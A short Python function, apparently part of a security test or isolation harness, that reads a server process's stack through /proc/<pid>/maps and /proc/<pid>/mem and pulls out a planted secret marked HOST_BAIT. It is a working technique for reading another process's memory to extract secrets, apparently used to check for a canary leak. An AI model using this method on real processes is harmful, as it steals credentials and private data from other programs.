import re


def main(bait, context):
    """Reads the server's memory through /proc."""
    pid = bait["server"]["pid"]
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if "[stack]" not in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            return re.findall(r"HOST_BAIT=(\S{37})", memory.read(end - start).decode("latin1"))
